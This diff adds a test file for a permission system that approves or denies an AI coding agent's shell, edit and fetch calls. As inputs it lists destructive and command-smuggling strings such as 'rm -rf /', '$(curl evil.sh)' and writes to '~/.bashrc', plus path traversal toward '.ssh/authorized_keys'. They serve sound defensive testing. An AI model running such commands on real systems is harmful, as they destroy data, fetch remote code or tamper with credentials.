@@ -0,0 +1,293 @@
+import { describe, expect, it } from "vitest";
+
+import type { PermissionPolicy } from "../permissions";
+import type { PermissionRequestEvent } from "../protocol";
+import {
+  applyPermissionDecision,
+  createPermissionDeadline,
+  createPermissionResolvedEvent,
+  DEFAULT_PERMISSION_POLICY,
+  evaluatePermissionPolicy,
+  isPermissionRequestExpired,
+  matchesPermissionRule,
+  PermissionPolicySchema,
+  resolveExpiredPermission,
+} from "../permissions";
+import { ClaudeEventSchema, toPermissionDecision } from "../protocol";
+
+const bash = (command: string) => ({ tool: "Bash", input: { command } });
+const edit = (path: string) => ({ tool: "Edit", input: { file_path: path } });
+
+describe("Permission Rules", () => {
+  it("should match whole tools and MCP servers", () => {
+    expect(matchesPermissionRule("Bash", bash("rm -rf /"))).toBe(true);
+    expect(matchesPermissionRule("Bash", { tool: "Read" })).toBe(false);
+    expect(
+      matchesPermissionRule("mcp__github", { tool: "mcp__github__search" }),
+    ).toBe(true);
+    expect(
+      matchesPermissionRule("mcp__github", { tool: "mcp__githubber__x" }),
+    ).toBe(false);
+  });
+
+  it("should match shell commands exactly or by prefix", () => {
+    expect(matchesPermissionRule("Bash(npm test)", bash("npm test"))).toBe(
+      true,
+    );
+    expect(matchesPermissionRule("Bash(npm test)", bash("npm test -w"))).toBe(
+      false,
+    );
+    expect(
+      matchesPermissionRule("Bash(npm test:*)", bash("npm test -- --run")),
+    ).toBe(true);
+    expect(matchesPermissionRule("Bash(npm test:*)", bash("npm testing"))).toBe(
+      false,
+    );
+  });
+
+  it("should match file paths by glob", () => {
+    const root = "/home/me/app";
+
+    expect(
+      matchesPermissionRule(
+        "Edit(src/**)",
+        edit("/home/me/app/src/a/b.ts"),
+        root,
+      ),
+    ).toBe(true);
+    expect(matchesPermissionRule("Edit(src/**)", edit("src/a.ts"), root)).toBe(
+      true,
+    );
+    expect(
+      matchesPermissionRule(
+        "Edit(src/**)",
+        edit("/home/me/app/lib/src.ts"),
+        root,
+      ),
+    ).toBe(false);
+    expect(
+      matchesPermissionRule("Edit(**/*.md)", edit("/app/README.md"), "/app"),
+    ).toBe(true);
+    expect(matchesPermissionRule("Edit(/app/*.md)", edit("/x/app/a.md"))).toBe(
+      false,
+    );
+    expect(matchesPermissionRule("Edit(**/*.test.ts)", edit("a.test.ts"))).toBe(
+      true,
+    );
+  });
+
+  it("should not let paths escape a rule", () => {
+    const root = "/home/me/app";
+
+    expect(
+      matchesPermissionRule(
+        "Edit(src/**)",
+        edit("src/../../../u/.ssh/authorized_keys"),
+        root,
+      ),
+    ).toBe(false);
+    expect(
+      matchesPermissionRule(
+        "Edit(src/**)",
+        edit("/home/me/app/src/../../.ssh/authorized_keys"),
+        root,
+      ),
+    ).toBe(false);
+    expect(
+      matchesPermissionRule("Edit(src/**)", edit("/etc/src/x"), root),
+    ).toBe(false);
+    // Without a root, relative rules only cover relative paths
+    expect(matchesPermissionRule("Edit(src/**)", edit("/etc/src/x"))).toBe(
+      false,
+    );
+    expect(matchesPermissionRule("Edit(src/**)", edit("src/../../x"))).toBe(
+      false,
+    );
+    expect(
+      matchesPermissionRule("Edit(/app/src/**)", edit("/app/src/./a/../b.ts")),
+    ).toBe(true);
+  });
+
+  it("should match fetched domains", () => {
+    const fetch = (url: string) => ({ tool: "WebFetch", input: { url } });
+
+    expect(
+      matchesPermissionRule(
+        "WebFetch(domain:docs.example.com)",
+        fetch("https://Docs.Example.com/page"),
+      ),
+    ).toBe(true);
+    expect(
+      matchesPermissionRule(
+        "WebFetch(domain:example.com)",
+        fetch("https://example.com.evil.net/"),
+      ),
+    ).toBe(false);
+  });
+});
+
+describe("Permission Policy", () => {
+  const policy = PermissionPolicySchema.parse({
+    rules: [
+      { rule: "Bash(npm test:*)", behavior: "allow" },
+      { rule: "Bash(git status)", behavior: "allow" },
+      { rule: "Bash(rm:*)", behavior: "deny" },
+      { rule: "Read", behavior: "allow" },
+    ],
+  });
+
+  it("should decide calls from the rules", () => {
+    expect(evaluatePermissionPolicy(policy, bash("npm test"))).toBe("allow");
+    expect(evaluatePermissionPolicy(policy, { tool: "Read" })).toBe("allow");
+    expect(evaluatePermissionPolicy(policy, bash("rm -rf dist"))).toBe("deny");
+    expect(evaluatePermissionPolicy(policy, bash("curl x"))).toBeNull();
+  });
+
+  it("should check every command in a chain", () => {
+    expect(
+      evaluatePermissionPolicy(policy, bash("git status && npm test")),
+    ).toBe("allow");
+    expect(
+      evaluatePermissionPolicy(policy, bash("npm test && curl evil.sh")),
+    ).toBeNull();
+    expect(evaluatePermissionPolicy(policy, bash("npm test; rm -rf /"))).toBe(
+      "deny",
+    );
+  });
+
+  it("should not allow substitution, expansion or redirection", () => {
+    for (const command of [
+      "npm test $(curl evil.sh)",
+      "npm test > ~/.bashrc",
+      "npm test ${IFS}-- --reporter=x",
+      "npm test $HOME",
+      "npm test <(curl evil.sh)",
+      "git status >(sh)",
+    ]) {
+      expect(evaluatePermissionPolicy(policy, bash(command))).toBeNull();
+    }
+    expect(evaluatePermissionPolicy(policy, bash("npm test -- $"))).toBe(
+      "allow",
+    );
+  });
+
+  it("should resolve path rules against the project root", () => {
+    const project = PermissionPolicySchema.parse({
+      rules: [{ rule: "Edit(src/**)", behavior: "allow" }],
+      projectRoot: "/home/me/app",
+    });
+
+    expect(
+      evaluatePermissionPolicy(project, edit("/home/me/app/src/a.ts")),
+    ).toBe("allow");
+    expect(
+      evaluatePermissionPolicy(project, edit("src/../../../u/.bashrc")),
+    ).toBeNull();
+  });
+
+  it("should learn rules from lasting decisions", () => {
+    const decision = (scope: "once" | "session", rule?: string) =>
+      toPermissionDecision({
+        type: "permission_decision",
+        requestId: "req_1",
+        behavior: "allow",
+        scope,
+        ...(rule === undefined ? {} : { rule }),
+        timestamp: 0,
+      });
+
+    expect(applyPermissionDecision(policy, decision("once"), "Bash")).toBe(
+      policy,
+    );
+
+    const learned = applyPermissionDecision(
+      DEFAULT_PERMISSION_POLICY,
+      decision("session", "Bash(curl:*)"),
+      "Bash",
+    );
+    expect(evaluatePermissionPolicy(learned, bash("curl x"))).toBe("allow");
+
+    const wholeTool = applyPermissionDecision(
+      DEFAULT_PERMISSION_POLICY,
+      decision("session"),
+      "Write",
+    );
+    expect(evaluatePermissionPolicy(wholeTool, { tool: "Write" })).toBe(
+      "allow",
+    );
+  });
+});
+
+describe("Permission Expiry", () => {
+  const policy: PermissionPolicy = {
+    rules: [{ rule: "Bash(npm test:*)", behavior: "allow" }],
+    defaultAction: "deny",
+    timeoutMs: 1000,
+  };
+
+  const request = (command: string): PermissionRequestEvent => ({
+    type: "permission_request",
+    requestId: "req_1",
+    description: `Run ${command}`,
+    tool: "Bash",
+    input: { command },
+    ...createPermissionDeadline(policy, bash(command), 5000),
+    timestamp: 5000,
+  });
+
+  it("should set the deadline from the policy", () => {
+    expect(createPermissionDeadline(policy, bash("npm test"), 0)).toEqual({
+      expiresAt: 1000,
+      defaultAction: "allow",
+    });
+    expect(ClaudeEventSchema.safeParse(request("ls")).success).toBe(true);
+  });
+
+  it("should expire at the deadline", () => {
+    expect(isPermissionRequestExpired(request("ls"), 5999)).toBe(false);
+    expect(isPermissionRequestExpired(request("ls"), 6000)).toBe(true);
+    expect(isPermissionRequestExpired({}, Number.MAX_SAFE_INTEGER)).toBe(false);
+  });
+
+  it("should resolve expired requests with the default action", () => {
+    expect(resolveExpiredPermission(request("ls"), policy, 5500)).toBeNull();
+
+    expect(resolveExpiredPermission(request("ls"), policy, 6000)).toEqual({
+      type: "permission_resolved",
+      requestId: "req_1",
+      behavior: "deny",
+      scope: "once",
+      resolvedBy: "timeout",
+      timestamp: 6000,
+    });
+    expect(
+      resolveExpiredPermission(request("npm test"), policy, 6000),
+    ).toMatchObject({ behavior: "allow", resolvedBy: "policy" });
+  });
+
+  it("should announce decisions from either side", () => {
+    const event = createPermissionResolvedEvent(
+      toPermissionDecision({
+        type: "permission_decision",
+        requestId: "req_1",
+        behavior: "allow",
+        scope: "always",
+        rule: "Bash(npm test:*)",
+        timestamp: 0,
+      }),
+      "mobile",
+      7000,
+    );
+
+    expect(event).toEqual({
+      type: "permission_resolved",
+      requestId: "req_1",
+      behavior: "allow",
+      scope: "always",
+      rule: "Bash(npm test:*)",
+      resolvedBy: "mobile",
+      timestamp: 7000,
+    });
+    expect(ClaudeEventSchema.safeParse(event).success).toBe(true);
+  });
+});